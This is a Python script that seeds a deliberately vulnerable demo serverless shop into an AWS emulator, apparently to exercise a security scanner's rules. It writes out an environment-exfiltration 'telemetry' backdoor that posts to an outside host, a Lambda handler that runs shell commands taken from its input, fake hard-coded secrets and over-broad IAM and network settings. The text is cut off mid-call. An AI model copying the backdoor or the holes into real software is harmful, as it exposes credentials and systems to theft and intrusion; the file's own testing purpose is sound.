"""Seed a realistic, deliberately vulnerable serverless application into an AWS endpoint.

"ShopFast" is a small online shop: a REST API (orders, payments, admin), an HTTP API
(profiles, search), queues, a topic, layers, a function URL for a payment webhook, secrets,
log groups and a trail, in two regions. Some functions are hardened, others carry the
mistakes real teams make, so every rule has something to fail and something to pass.

Only ever pointed at the emulator: it creates resources.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import time
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from typing import Any

import boto3
from botocore.config import Config

from fortress.demo import seed_elb

PRIMARY = "us-east-1"
SECONDARY = "eu-west-1"
ACCOUNT = "123456789012"
FOREIGN_ACCOUNT = "444455556666"

# Values shaped like real secrets (made-up keys in AWS's formats and obviously fake tokens):
# they exist so the demo shows secret detection and redaction; none is a working credential.
# (AWS's documented example keys would not do: Fortress treats them as placeholders.)
FAKE_AWS_KEY_ID = "AKIA" + "Z7QX3JH2LKD9PVWM"
FAKE_AWS_SECRET = "Xq3vR8tLm2Pz9Kw4" + "Nb7Yc1Hd6Fj0Gs5Ue8Ai2Ox/"
FAKE_STRIPE_KEY = "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc"
FAKE_DB_PASSWORD = "Sup3r-S3cret-Passw0rd!"
FAKE_STAGE_TOKEN = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"
# Hard-coded in package content (issue 10): a key in payments-webhook's code, a token in the
# analytics-sdk layer.
FAKE_CODE_STRIPE_KEY = "sk_live_" + "51HqLyjWDarjtT1zdp7dcK9a"
FAKE_LAYER_TOKEN = "ghp_" + "9bX2kQ7mN4pR8sT1vW5yZ3aC6dE0fG2hJ4kL"
SEEDED_SECRETS = (
    FAKE_AWS_SECRET,
    FAKE_STRIPE_KEY,
    FAKE_DB_PASSWORD,
    FAKE_STAGE_TOKEN,
    FAKE_CODE_STRIPE_KEY,
    FAKE_LAYER_TOKEN,
)

# Package content for the package rules (issue 10): each function below ships one problem.
PAYMENTS_CODE = {
    "index.js": (
        "const stripe = require('stripe');\n"
        f"const STRIPE_KEY = '{FAKE_CODE_STRIPE_KEY}';\n\n"
        "exports.handler = async (event) => {\n"
        "  const client = stripe(STRIPE_KEY);\n"
        "  return { statusCode: 200, body: JSON.stringify({ ok: true }) };\n"
        "};\n"
    ),
    "package.json": '{"name": "payments-webhook", "version": "1.0.0"}\n',
    "node_modules/lodash/package.json": '{"name": "lodash", "version": "4.17.15"}\n',
}
ORDERS_WORKER_CODE = {
    "app.py": (
        "import json\n\nimport yaml\n\n\n"
        "def handler(event, context):\n"
        "    for record in event.get('Records', []):\n"
        "        order = json.loads(record['body'])\n"
        "        print(order.get('id'))\n"
        "    return {'statusCode': 200}\n"
    ),
    "PyYAML-5.3.dist-info/METADATA": "Metadata-Version: 2.1\nName: PyYAML\nVersion: 5.3\n",
    "yaml/__init__.py": "__version__ = '5.3'\n",
}
ADMIN_TOOLS_CODE = {
    "app.py": (
        "import subprocess\n\n\n"
        "def handler(event, context):\n"
        "    command = event['command']\n"
        "    done = subprocess.run(command, shell=True, capture_output=True)\n"
        "    return {'statusCode': 200, 'body': done.stdout.decode()}\n"
    ),
}
REPORTS_CODE = {
    "app.py": (
        "import os\n\n\n"
        "def handler(event, context):\n"
        "    password = os.environ['DB_PASSWORD']\n"
        "    with open('/tmp/db.cfg', 'w') as cfg:\n"
        "        cfg.write(password)\n"
        "    return {'statusCode': 200}\n"
    ),
}
ANALYTICS_LAYER = {
    "python/analytics.py": (
        f"GITHUB_TOKEN = '{FAKE_LAYER_TOKEN}'\n\n\ndef track(event):\n    return None\n"
    ),
    "python/PyYAML-5.3.dist-info/METADATA": "Metadata-Version: 2.1\nName: PyYAML\nVersion: 5.3\n",
}

# The "backdoor" planted in orders-api release 3 (inert text: the demo never runs code).
TELEMETRY = (
    "import json, os, urllib.request\n\n\n"
    "def report():\n"
    "    body = json.dumps(dict(os.environ)).encode()\n"
    "    urllib.request.urlopen('https://metrics.example.net/collect', data=body, timeout=2)\n"
)

LAMBDA_TRUST = {
    "Version": "2012-10-17",
    "Statement": [
        {
            "Effect": "Allow",
            "Principal": {"Service": "lambda.amazonaws.com"},
            "Action": "sts:AssumeRole",
        }
    ],
}


@dataclass
class Seeded:
    """What the seed created, for the demo's report and for tests."""

    endpoint: str
    functions: dict[str, str] = field(default_factory=dict)  # name -> ARN
    rest_api_id: str = ""
    # Every package uploaded, by its CodeSha256 (base64): the demo's package mirror serves
    # them, since the emulator's Code.Location is not reachable.
    packages: dict[str, bytes] = field(default_factory=dict)
    http_api_id: str = ""
    regions: tuple[str, ...] = (PRIMARY, SECONDARY)


def code_sha256(data: bytes) -> str:
    return base64.b64encode(hashlib.sha256(data).digest()).decode()


def _zip(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.external_attr = 0o644 << 16
            archive.writestr(info, text)
    return buffer.getvalue()


def handler_code(name: str, version: int = 1, extra: dict[str, str] | None = None) -> bytes:
    body = f'''import json\n\n\ndef handler(event, context):\n    """{name} v{version}"""\n    return {{"statusCode": 200, "body": json.dumps({{"service": "{name}", "version": {version}}})}}\n'''
    files = {"app.py": body, "requirements.txt": "boto3==1.34.0\n"}
    files.update(extra or {})
    return _zip(files)


class _Seeder:
    def __init__(self, endpoint: str) -> None:
        self.endpoint = endpoint
        self.result = Seeded(endpoint=endpoint)
        self._clients: dict[tuple[str, str], Any] = {}

    def c(self, service: str, region: str = PRIMARY) -> Any:
        key = (service, region)
        if key not in self._clients:
            self._clients[key] = boto3.client(  # type: ignore[call-overload]
                service,
                region_name=region,
                endpoint_url=self.endpoint,
                aws_access_key_id="testing",
                aws_secret_access_key="testing",
                config=Config(retries={"max_attempts": 6, "mode": "standard"}, read_timeout=120),
            )
        return self._clients[key]

    # building blocks ----------------------------------------------------------------------

    def remember(self, package: bytes | None) -> bytes | None:
        if package:
            self.result.packages[code_sha256(package)] = package
        return package

    def role(
        self,
        name: str,
        policies: Sequence[dict[str, Any]] = (),
        managed: Sequence[str] = (),
        trust: dict[str, Any] | None = None,
    ) -> str:
        iam = self.c("iam")
        arn = iam.create_role(
            RoleName=name, AssumeRolePolicyDocument=json.dumps(trust or LAMBDA_TRUST)
        )["Role"]["Arn"]
        for i, doc in enumerate(policies):
            iam.put_role_policy(
                RoleName=name, PolicyName=f"{name}-inline-{i}", PolicyDocument=json.dumps(doc)
            )
        for policy in managed:
            iam.attach_role_policy(RoleName=name, PolicyArn=policy)
        return str(arn)

    def function(self, name: str, role: str, region: str = PRIMARY, **kwargs: Any) -> str:
        params: dict[str, Any] = {
            "FunctionName": name,
            "Runtime": "python3.12",
            "Role": role,
            "Handler": "app.handler",
            "Code": {"ZipFile": handler_code(name)},
            "Timeout": 30,
            "MemorySize": 256,
        }
        params.update(kwargs)
        self.remember(params["Code"].get("ZipFile"))
        arn = self.c("lambda", region).create_function(**params)["FunctionArn"]
        self.result.functions[name] = arn
        return str(arn)

    def log_group(
        self, name: str, region: str = PRIMARY, retention: int | None = None, kms: str | None = None
    ) -> None:
        logs = self.c("logs", region)
        kwargs: dict[str, Any] = {"logGroupName": name}
        if kms:
            kwargs["kmsKeyId"] = kms
        logs.create_log_group(**kwargs)
        if retention:
            logs.put_retention_policy(logGroupName=name, retentionInDays=retention)

    def alarm(self, function: str, metric: str, region: str = PRIMARY) -> None:
        self.c("cloudwatch", region).put_metric_alarm(
            AlarmName=f"{function}-{metric.lower()}",
            Namespace="AWS/Lambda",
            MetricName=metric,
            Dimensions=[{"Name": "FunctionName", "Value": function}],
            Statistic="Sum",
            Period=60,
            EvaluationPeriods=1,
            Threshold=1,
            ComparisonOperator="GreaterThanOrEqualToThreshold",
        )

    # the application ----------------------------------------------------------------------

    def seed(self) -> Seeded:
        self.network()
        self.keys()
        self.secrets()
        self.layers()
        self.roles()
        self.functions()
        self.apis()
        seed_elb.load_balancers(
            self.c("elbv2"),
            [self.subnet_a, self.subnet_b],
            lambda name: f"arn:aws:lambda:{PRIMARY}:{ACCOUNT}:function:{name}",
        )
        self.observability()
        self.account_services()
        self.secondary_region()
        return self.result

    def network(self) -> None:
        ec2 = self.c("ec2")
        vpc = ec2.create_vpc(CidrBlock="10.20.0.0/16")["Vpc"]["VpcId"]
        self.subnet_a = ec2.create_subnet(
            VpcId=vpc, CidrBlock="10.20.1.0/24", AvailabilityZone="us-east-1a"
        )["Subnet"]["SubnetId"]
        self.subnet_b = ec2.create_subnet(
            VpcId=vpc, CidrBlock="10.20.2.0/24", AvailabilityZone="us-east-1b"
        )["Subnet"]["SubnetId"]
        self.subnet_a2 = ec2.create_subnet(
            VpcId=vpc, CidrBlock="10.20.3.0/24", AvailabilityZone="us-east-1a"
        )["Subnet"]["SubnetId"]
        # subnet_a2 is a public subnet (a route to an internet gateway) on the default network
        # ACL (all inbound allowed); a and b use the main route table (local only) and a
        # private ACL that lets in only return traffic.
        igw = ec2.create_internet_gateway()["InternetGateway"]["InternetGatewayId"]
        ec2.attach_internet_gateway(InternetGatewayId=igw, VpcId=vpc)
        public = ec2.create_route_table(VpcId=vpc)["RouteTable"]["RouteTableId"]
        ec2.create_route(RouteTableId=public, DestinationCidrBlock="0.0.0.0/0", GatewayId=igw)
        ec2.associate_route_table(RouteTableId=public, SubnetId=self.subnet_a2)
        acl = ec2.create_network_acl(VpcId=vpc)["NetworkAcl"]["NetworkAclId"]
        ec2.create_network_acl_entry(
            NetworkAclId=acl,
            RuleNumber=100,
            Protocol="6",
            RuleAction="allow",
            Egress=False,
            CidrBlock="0.0.0.0/0",
            PortRange={"From": 1024, "To": 65535},
        )
        for acls in ec2.describe_network_acls(Filters=[{"Name": "vpc-id", "Values": [vpc]}])[
            "NetworkAcls"
        ]:
            for assoc in acls.get("Associations") or []:
                if assoc.get("SubnetId") in (self.subnet_a, self.subnet_b):
                    ec2.replace_network_acl_association(
                        AssociationId=assoc["NetworkAclAssociationId"], NetworkAclId=acl
                    )
        # Hardened: HTTPS egress to the VPC only, no inbound.
        self.sg_tight = ec2.create_security_group(
            GroupName="lambda-private", Description="private lambdas", VpcId=vpc
        )["GroupId"]
        ec2.revoke_security_group_egress(
            GroupId=self.sg_tight,
            IpPermissions=[{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}],
        )
        ec2.authorize_security_group_egress(
            GroupId=self.sg_tight,
            IpPermissions=[
                {
                    "IpProtocol": "tcp",
                    "FromPort": 443,
                    "ToPort": 443,
                    "IpRanges": [{"CidrIp": "10.20.0.0/16"}],
                }
            ],
        )
        # Careless: SSH open to the world and the default allow-all egress.
        self.sg_open = ec2.create_security_group(
            GroupName="legacy-debug", Description="debug access", VpcId=vpc
        )["GroupId"]
        ec2.authorize_security_group_ingress(
            GroupId=self.sg_open,
            IpPermissions=[
                {
                    "IpProtocol": "tcp",
                    "FromPort": 22,
                    "ToPort": 22,
                    "IpRanges": [{"CidrIp": "0.0.0.0/0"}],
                }
            ],
        )

    def keys(self) -> None:
        kms = self.c("kms")
        self.cmk = kms.create_key(Description="shopfast lambda environment")["KeyMetadata"]["Arn"]
        kms.create_alias(AliasName="alias/shopfast-lambda", TargetKeyId=self.cmk)
        self.logs_cmk = kms.create_key(Description="shopfast logs")["KeyMetadata"]["Arn"]

    def secrets(self) -> None:
        sm = self.c("secretsmanager")
        self.db_secret = sm.create_secret(
            Name="shopfast/db", SecretString=json.dumps({"password": FAKE_DB_PASSWORD})
        )["ARN"]
        self.stripe_secret = sm.create_secret(Name="shopfast/stripe", SecretString=FAKE_STRIPE_KEY)[
            "ARN"
        ]

    def layers(self) -> None:
        lam = self.c("lambda")
        common = lam.publish_layer_version(
            LayerName="shopfast-common",
            Content={
                "ZipFile": self.remember(_zip({"python/shopfast_common.py": "VERSION = '1.4.0'\n"}))
            },
            CompatibleRuntimes=["python3.12"],
        )
        self.layer_common = common["LayerVersionArn"]
        analytics = lam.publish_layer_version(
            LayerName="analytics-sdk",
            Content={"ZipFile": self.remember(_zip(ANALYTICS_LAYER))},
            CompatibleRuntimes=["python3.12"],
        )
        self.layer_analytics = analytics["LayerVersionArn"]
        # Shared with the whole world: anyone can pull this layer's code.
        lam.add_layer_version_permission(
            LayerName="analytics-sdk",
            VersionNumber=analytics["Version"],
            StatementId="public",
            Action="lambda:GetLayerVersion",
            Principal="*",
        )

    def roles(self) -> None:
        basic = "arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole"
        self.role_orders = self.role(
            "shopfast-orders",
            policies=[
                {
                    "Version": "2012-10-17",
                    "Statement": [
                        {
                            "Effect": "Allow",
                            "Action": ["dynamodb:PutItem", "dynamodb:GetItem"],
                            "Resource": f"arn:aws:dynamodb:{PRIMARY}:{ACCOUNT}:table/orders",
                        },
                        {
                            "Effect": "Allow",
                            "Action": ["sqs:SendMessage"],
                            "Resource": f"arn:aws:sqs:{PRIMARY}:{ACCOUNT}:orders",
                        },
                    ],
                }
            ],
            managed=[basic],
        )
        self.role_payments = self.role(
            "shopfast-payments",
            managed=["arn:aws:iam::aws:policy/AdministratorAccess"],
        )
        self.role_admin = self.role(
            "shopfast-admin-tools",
            policies=[
                {
                    "Version": "2012-10-17",
                    "Statement": [
                        {
                            "Sid": "Deploy",
                            "Effect": "Allow",
                            "Action": [
                                "iam:PassRole",
                                "lambda:CreateFunction",
                                "lambda:InvokeFunction",
                                "lambda:UpdateFunctionCode",
                            ],
                            "Resource": "*",
                        },
                        {"Sid": "Buckets", "Effect": "Allow", "Action": "s3:*", "Resource": "*"},
                        {
                            "Sid": "Secrets",
                            "Effect": "Allow",
                            "Action": "secretsmanager:GetSecretValue",
                            "Resource": self.stripe_secret,
                        },
                    ],
                }
            ],
            trust={
                "Version": "2012-10-17",
                "Statement": [
                    {
                        "Effect": "Allow",
                        "Principal": {"Service": "lambda.amazonaws.com"},
                        "Action": "sts:AssumeRole",
                    },
                    {
                        "Effect": "Allow",
                        "Principal": {"AWS": f"arn:aws:iam::{FOREIGN_ACCOUNT}:root"},
                        "Action": "sts:AssumeRole",
                    },
                ],
            },
        )
        self.role_reader = self.role(
            "shopfast-readonly",
            policies=[
                {
                    "Version": "2012-10-17",
                    "Statement": [
                        {
                            "Effect": "Allow",
                            "Action": ["s3:GetObject"],
                            "Resource": "arn:aws:s3:::shopfast-images/*",
                        },
                        {
                            "Effect": "Allow",
                            "Action": ["secretsmanager:GetSecretValue"],
                            "Resource": self.db_secret,
                        },
                    ],
                }
            ],
            managed=[basic],
        )
        self.role_hardened = {}
        for name in (
            "auth-authorizer",
            "audit-logger",
            "notifications",
            "user-profile",
            "inventory-sync",
        ):
            self.role_hardened[name] = self.role(
                f"shopfast-{name}",
                policies=[
                    {
                        "Version": "2012-10-17",
                        "Statement": [
                            {
                                "Effect": "Allow",
                                "Action": ["logs:CreateLogStream", "logs:PutLogEvents"],
                                "Resource": f"arn:aws:logs:{PRIMARY}:{ACCOUNT}:log-group:/aws/lambda/{name}:*",
                            }
                        ],
                    }
                ],
            )

        # A contractor who can still push code to the legacy export job (FTR-IAM-011 fails
        # there); the demo's config lists the two roles that deploy as deployers.
        iam = self.c("iam")
        iam.create_user(UserName="contractor")
        iam.put_user_policy(
            UserName="contractor",
            PolicyName="legacy-hotfix",
            PolicyDocument=json.dumps(
                {
                    "Version": "2012-10-17",
                    "Statement": [
                        {
                            "Sid": "LegacyHotfix",
                            "Effect": "Allow",
                            "Action": ["lambda:UpdateFunctionCode", "lambda:GetFunction"],
                            "Resource": f"arn:aws:lambda:{PRIMARY}:{ACCOUNT}:function:legacy-export",
                        }
                    ],
                }
            ),
        )

    def functions(self) -> None:
        lam = self.c("lambda")
        sqs = self.c("sqs")
        sns = self.c("sns")
        tags = {"app": "shopfast", "owner": "payments-team", "env": "prod"}
        hardened_vpc = {
            "SubnetIds": [self.subnet_a, self.subnet_b],
            "SecurityGroupIds": [self.sg_tight],
        }

        # orders-api: the main REST backend. Three published versions and a "live" alias.
        self.function(
            "orders-api",
            self.role_orders,
            Environment={
                "Variables": {
                    "TABLE_NAME": "orders",
                    "QUEUE_URL": "https://sqs.us-east-1.amazonaws.com/123456789012/orders",
                }
            },
            Layers=[self.layer_common],
            TracingConfig={"Mode": "Active"},
            Tags=tags,
        )
        lam.publish_version(FunctionName="orders-api", Description="release 1")
        lam.update_function_code(
            FunctionName="orders-api", ZipFile=self.remember(handler_code("orders-api", 2))
        )
        lam.publish_version(FunctionName="orders-api", Description="release 2")
        # Release 3 is the one a responder should look at: a "telemetry" module that ships the
        # environment to an outside host, and a new layer (the publicly shared one).
        lam.update_function_code(
            FunctionName="orders-api",
            ZipFile=self.remember(
                handler_code("orders-api", 3, extra={"vendor/telemetry.py": TELEMETRY})
            ),
        )
        lam.update_function_configuration(
            FunctionName="orders-api", Layers=[self.layer_common, self.layer_analytics]
        )
        lam.publish_version(FunctionName="orders-api", Description="release 3")
        lam.create_alias(FunctionName="orders-api", Name="live", FunctionVersion="3")
        # The mobile app calls the live alias through an IAM-authenticated URL.
        lam.create_function_url_config(
            FunctionName="orders-api",
            Qualifier="live",
            AuthType="AWS_IAM",
            Cors={"AllowOrigins": ["https://shop.example.com"], "AllowMethods": ["GET", "POST"]},
        )
        lam.put_function_concurrency(FunctionName="orders-api", ReservedConcurrentExecutions=50)

        # orders-worker: consumes the orders queue; shares the orders role (blast radius).
        queue_arn = sqs.get_queue_attributes(
            QueueUrl=sqs.create_queue(QueueName="orders")["QueueUrl"], AttributeNames=["QueueArn"]
        )["Attributes"]["QueueArn"]
        self.function(
            "orders-worker",
            self.role_orders,
            Code={"ZipFile": _zip(ORDERS_WORKER_CODE)},
            Environment={"Variables": {"TABLE_NAME": "orders"}},
            Tags=tags,
        )
        lam.create_event_source_mapping(
            EventSourceArn=queue_arn, FunctionName="orders-worker", BatchSize=10
        )

        # payments-webhook: public function URL, CORS *, admin role, a live API key in env.
        self.function(
            "payments-webhook",
            self.role_payments,
            Runtime="nodejs14.x",
            Handler="index.handler",
            Code={"ZipFile": _zip(PAYMENTS_CODE)},
            Environment={
                "Variables": {"STRIPE_SECRET_KEY": FAKE_STRIPE_KEY, "WEBHOOK_PATH": "/stripe"}
            },
        )
        lam.create_function_url_config(
            FunctionName="payments-webhook",
            AuthType="NONE",
            Cors={"AllowOrigins": ["*"], "AllowCredentials": True, "AllowMethods": ["POST"]},
        )
        lam.add_permission(
            FunctionName="payments-webhook",
            StatementId="FunctionURLAllowPublicAccess",
            Action="lambda:InvokeFunctionUrl",
            Principal="*",
            FunctionUrlAuthType="NONE",
        )

        # admin-tools: escalation-prone role, world-invocable, a foreign account can manage it.
        self.function(
            "admin-tools",
            self.role_admin,
            Code={"ZipFile": _zip(ADMIN_TOOLS_CODE)},
            Environment={
                "Variables": {
                    "AWS_ACCESS_KEY_ID_BACKUP": FAKE_AWS_KEY_ID,
                    "AWS_SECRET_KEY_BACKUP": FAKE_AWS_SECRET,
                    "STRIPE_SECRET_ARN": self.stripe_secret,
                }
            },
            Timeout=900,
            Layers=[self.layer_analytics],
        )
        lam.add_permission(
            FunctionName="admin-tools",
            StatementId="anyone",
            Action="lambda:InvokeFunction",
            Principal="*",
        )
        lam.add_permission(
            FunctionName="admin-tools",
            StatementId="partner",
            Action="lambda:*",
            Principal=FOREIGN_ACCOUNT,
        )

        # image-resizer: S3 trigger without SourceAccount/SourceArn (confused deputy), big /tmp.
        self.function(
            "image-resizer",
            self.role_reader,
            EphemeralStorage={"Size": 4096},
            MemorySize=1024,
            VpcConfig={
                "SubnetIds": [self.subnet_a, self.subnet_a2],
                "SecurityGroupIds": [self.sg_open],
            },
        )
        lam.add_permission(
            FunctionName="image-resizer",
            StatementId="s3",
            Action="lambda:InvokeFunction",
            Principal="s3.amazonaws.com",
        )

        # Parameter Store: the reports database password kept as a plain String (FTR-SEC-006
        # fails), the authorizer's signing material as a SecureString (passes).
        ssm = self.c("ssm")
        ssm.put_parameter(
            Name="/shopfast/reports/db-password", Type="String", Value=FAKE_DB_PASSWORD
        )
        ssm.put_parameter(
            Name="/shopfast/auth/jwks-signing", Type="SecureString", Value="demo-signing-material"
        )

        # reports-generator: long-deprecated runtime, max timeout, no logs configured.
        self.function(
            "reports-generator",
            self.role_reader,
            Runtime="python3.7",
            Timeout=900,
            Code={"ZipFile": _zip(REPORTS_CODE)},  # writes the DB password to /tmp
            Environment={
                "Variables": {
                    "DB_PASSWORD": FAKE_DB_PASSWORD,
                    "REPORT_BUCKET": "shopfast-reports",
                    "DB_PASSWORD_PARAMETER": "/shopfast/reports/db-password",
                }
            },
        )

        # notifications: SNS-triggered, with an on-failure destination (hardened).
        topic = sns.create_topic(Name="order-events")["TopicArn"]
        dlq_arn = sqs.get_queue_attributes(
            QueueUrl=sqs.create_queue(QueueName="notifications-dlq")["QueueUrl"],
            AttributeNames=["QueueArn"],
        )["Attributes"]["QueueArn"]
        self.function(
            "notifications",
            self.role_hardened["notifications"],
            KMSKeyArn=self.cmk,
            Environment={"Variables": {"TOPIC_ARN": topic}},
            TracingConfig={"Mode": "Active"},
            Tags=tags,
            VpcConfig=hardened_vpc,
        )
        lam.add_permission(
            FunctionName="notifications",
            StatementId="sns",
            Action="lambda:InvokeFunction",
            Principal="sns.amazonaws.com",
            SourceArn=topic,
        )
        lam.put_function_event_invoke_config(
            FunctionName="notifications",
            MaximumRetryAttempts=2,
            DestinationConfig={"OnFailure": {"Destination": dlq_arn}},
        )
        lam.put_function_concurrency(FunctionName="notifications", ReservedConcurrentExecutions=10)

        # inventory-sync: EventBridge schedule, no failure destination.
        self.function(
            "inventory-sync",
            self.role_hardened["inventory-sync"],
            Tags=tags,
            TracingConfig={"Mode": "Active"},
        )
        lam.add_permission(
            FunctionName="inventory-sync",
            StatementId="events",
            Action="lambda:InvokeFunction",
            Principal="events.amazonaws.com",
            SourceArn=f"arn:aws:events:{PRIMARY}:{ACCOUNT}:rule/inventory-nightly",
        )

        # auth-authorizer: the hardened reference function.
        self.function(
            "auth-authorizer",
            self.role_hardened["auth-authorizer"],
            KMSKeyArn=self.cmk,
            Environment={
                "Variables": {
                    "JWKS_URL": "https://auth.shopfast.example/.well-known/jwks.json",
                    "LOG_LEVEL": "info",
                    "JWKS_SIGNING_PARAMETER": "/shopfast/auth/jwks-signing",
                }
            },
            VpcConfig=hardened_vpc,
            TracingConfig={"Mode": "Active"},
            Tags=tags,
            CodeSigningConfigArn=f"arn:aws:lambda:{PRIMARY}:{ACCOUNT}:code-signing-config:csc-0a1b2c3d4e5f60718",
        )
        lam.put_function_concurrency(
            FunctionName="auth-authorizer", ReservedConcurrentExecutions=20
        )

        # audit-logger: hardened too.
        self.function(
            "audit-logger",
            self.role_hardened["audit-logger"],
            Runtime="python3.13",
            TracingConfig={"Mode": "Active"},
            VpcConfig=hardened_vpc,
            Tags=tags,
        )
        lam.put_function_concurrency(FunctionName="audit-logger", ReservedConcurrentExecutions=5)

        # user-profile and search: behind the HTTP API.
        self.function(
            "user-profile",
            self.role_hardened["user-profile"],
            Tags=tags,
            TracingConfig={"Mode": "Active"},
        )
        self.function(
            "search",
            self.role_reader,
            Runtime="nodejs20.x",
            Handler="index.handler",
            Tags={"app": "shopfast"},
        )

        # loyalty-points: a runtime that leaves support within the demo's look-ahead window.
        self.function(
            "loyalty-points", self.role_reader, Runtime="ruby3.3", Handler="app.handler", Tags=tags
        )

        # legacy-export: old runtime, no tags, nothing configured.
        self.function(
            "legacy-export", self.role_reader, Runtime="nodejs16.x", Handler="index.handler"
        )

    def apis(self) -> None:
        ag = self.c("apigateway")
        fns = self.result.functions

        def uri(name: str) -> str:
            return f"arn:aws:apigateway:{PRIMARY}:lambda:path/2015-03-31/functions/{fns[name]}/invocations"

        # Its resource policy lets anyone invoke it; shopfast-partners (private) denies every
        # caller outside one VPC endpoint.
        invoke = {"Principal": "*", "Action": "execute-api:Invoke", "Resource": "execute-api:/*"}
        api = ag.create_rest_api(
            name="shopfast-rest",
            endpointConfiguration={"types": ["REGIONAL"]},
            policy=json.dumps(
                {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", **invoke}]}
            ),
        )["id"]
        ag.create_rest_api(
            name="shopfast-partners",
            endpointConfiguration={"types": ["PRIVATE"]},
            policy=json.dumps(
                {
                    "Version": "2012-10-17",
                    "Statement": [
                        {"Effect": "Allow", **invoke},
                        {
                            "Effect": "Deny",
                            **invoke,
                            "Condition": {
                                "StringNotEquals": {"aws:SourceVpce": "vpce-0123456789abcdef0"}
                            },
                        },
                    ],
                }
            ),
        )
        self.result.rest_api_id = api
        root = ag.get_resources(restApiId=api)["items"][0]["id"]
        validator = ag.create_request_validator(
            restApiId=api, name="body", validateRequestBody=True
        )["id"]
        authorizer = ag.create_authorizer(
            restApiId=api,
            name="jwt",
            type="TOKEN",
            authorizerUri=uri("auth-authorizer"),
            identitySource="method.request.header.Authorization",
        )["id"]

        def method(path: str, verb: str, fn: str, **kwargs: Any) -> None:
            resource = ag.create_resource(restApiId=api, parentId=root, pathPart=path)["id"]
            ag.put_method(restApiId=api, resourceId=resource, httpMethod=verb, **kwargs)
            ag.put_integration(
                restApiId=api,
                resourceId=resource,
                httpMethod=verb,
                type="AWS_PROXY",
                integrationHttpMethod="POST",
                uri=uri(fn),
            )

        method(
            "orders",
            "POST",
            "orders-api",
            authorizationType="CUSTOM",
            authorizerId=authorizer,
            requestValidatorId=validator,
        )
        method("catalog", "GET", "orders-api", authorizationType="NONE", apiKeyRequired=True)
        method("admin", "POST", "admin-tools", authorizationType="NONE")
        ag.create_deployment(restApiId=api, stageName="prod")
        ag.create_deployment(
            restApiId=api,
            stageName="dev",
            variables={"githubToken": FAKE_STAGE_TOKEN, "backend": "dev"},
        )
        ag.update_stage(
            restApiId=api,
            stageName="prod",
            patchOperations=[
                {"op": "replace", "path": "/*/*/throttling/rateLimit", "value": "200"},
                {"op": "replace", "path": "/*/*/throttling/burstLimit", "value": "100"},
                {"op": "replace", "path": "/*/*/logging/loglevel", "value": "ERROR"},
                {"op": "replace", "path": "/tracingEnabled", "value": "true"},
                {
                    "op": "replace",
                    "path": "/accessLogSettings/destinationArn",
                    "value": f"arn:aws:logs:{PRIMARY}:{ACCOUNT}:log-group:/aws/apigateway/shopfast",
                },
                {
                    "op": "replace",
                    "path": "/accessLogSettings/format",
                    "value": "$context.requestId",
                },
            ],
        )
        waf = self.c("wafv2")
        acl = waf.create_web_acl(
            Name="shopfast-acl",
            Scope="REGIONAL",
            DefaultAction={"Allow": {}},
            VisibilityConfig={
                "SampledRequestsEnabled": True,
                "CloudWatchMetricsEnabled": True,
                "MetricName": "shopfast",
            },
            Rules=[],
        )["Summary"]["ARN"]
        waf.associate_web_acl(
            WebACLArn=acl, ResourceArn=f"arn:aws:apigateway:{PRIMARY}::/restapis/{api}/stages/prod"
        )

        # The back-office API: IAM-authorized, validated — the hardened twin.
        internal = ag.create_rest_api(
            name="shopfast-backoffice", endpointConfiguration={"types": ["PRIVATE"]}
        )["id"]
        internal_root = ag.get_resources(restApiId=internal)["items"][0]["id"]
        internal_validator = ag.create_request_validator(
            restApiId=internal, name="all", validateRequestBody=True, validateRequestParameters=True
        )["id"]
        refunds = ag.create_resource(
            restApiId=internal, parentId=internal_root, pathPart="refunds"
        )["id"]
        ag.put_method(
            restApiId=internal,
            resourceId=refunds,
            httpMethod="POST",
            authorizationType="AWS_IAM",
            requestValidatorId=internal_validator,
        )
        ag.put_integration(
            restApiId=internal,
            resourceId=refunds,
            httpMethod="POST",
            type="AWS_PROXY",
            integrationHttpMethod="POST",
            uri=uri("orders-api"),
        )

        v2 = self.c("apigatewayv2")
        http = v2.create_api(
            Name="shopfast-http",
            ProtocolType="HTTP",
            CorsConfiguration={
                "AllowOrigins": ["https://shop.example.com"],
                "AllowCredentials": True,
            },
        )["ApiId"]
        self.result.http_api_id = http
        jwt = v2.create_authorizer(
            ApiId=http,
            AuthorizerType="JWT",
            IdentitySource=["$request.header.Authorization"],
            Name="cognito",
            JwtConfiguration={
                "Audience": ["shopfast"],
                "Issuer": "https://cognito-idp.us-east-1.amazonaws.com/us-east-1_example",
            },
        )["AuthorizerId"]
        for route, fn, auth in (
            ("GET /profile", "user-profile", jwt),
            ("GET /search", "search", None),
        ):
            integration = v2.create_integration(
                ApiId=http,
                IntegrationType="AWS_PROXY",
                IntegrationUri=fns[fn],
                PayloadFormatVersion="2.0",
            )["IntegrationId"]
            kwargs: dict[str, Any] = {
                "ApiId": http,
                "RouteKey": route,
                "Target": f"integrations/{integration}",
            }
            if auth:
                kwargs.update(AuthorizationType="JWT", AuthorizerId=auth)
            v2.create_route(**kwargs)
        v2.create_stage(
            ApiId=http,
            StageName="$default",
            AutoDeploy=True,
            DefaultRouteSettings={"ThrottlingBurstLimit": 50, "ThrottlingRateLimit": 100},
            AccessLogSettings={
                "DestinationArn": f"arn:aws:logs:{PRIMARY}:{ACCOUNT}:log-group:/aws/apigateway/shopfast-http",
                "Format": "$context.requestId",
            },
        )
        v2.create_stage(ApiId=http, StageName="beta")

        # CORS for any https:// site, with credentials: any website reads the answers.
        mobile = v2.create_api(
            Name="shopfast-mobile",
            ProtocolType="HTTP",
            CorsConfiguration={"AllowOrigins": ["https://*"], "AllowCredentials": True},
        )["ApiId"]
        mobile_jwt = v2.create_authorizer(
            ApiId=mobile,
            AuthorizerType="JWT",
            IdentitySource=["$request.header.Authorization"],
            Name="cognito",
            JwtConfiguration={
                "Audience": ["shopfast-mobile"],
                "Issuer": "https://cognito-idp.us-east-1.amazonaws.com/us-east-1_example",
            },
        )["AuthorizerId"]
        integration = v2.create_integration(
